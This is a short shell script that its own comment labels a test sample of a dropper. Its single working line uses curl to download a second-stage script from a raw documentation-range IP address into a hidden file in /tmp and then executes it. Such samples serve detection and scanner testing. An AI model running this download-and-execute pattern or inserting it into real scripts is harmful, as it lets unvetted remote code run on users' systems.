#!/bin/sh
# Test sample: a dropper that downloads its second stage from a raw IP
# (TEST-NET-3, never routable) and runs it.
curl -fsS --max-time 3 http://203.0.113.7/payload.sh -o /tmp/.p.sh && sh /tmp/.p.sh
exit 0
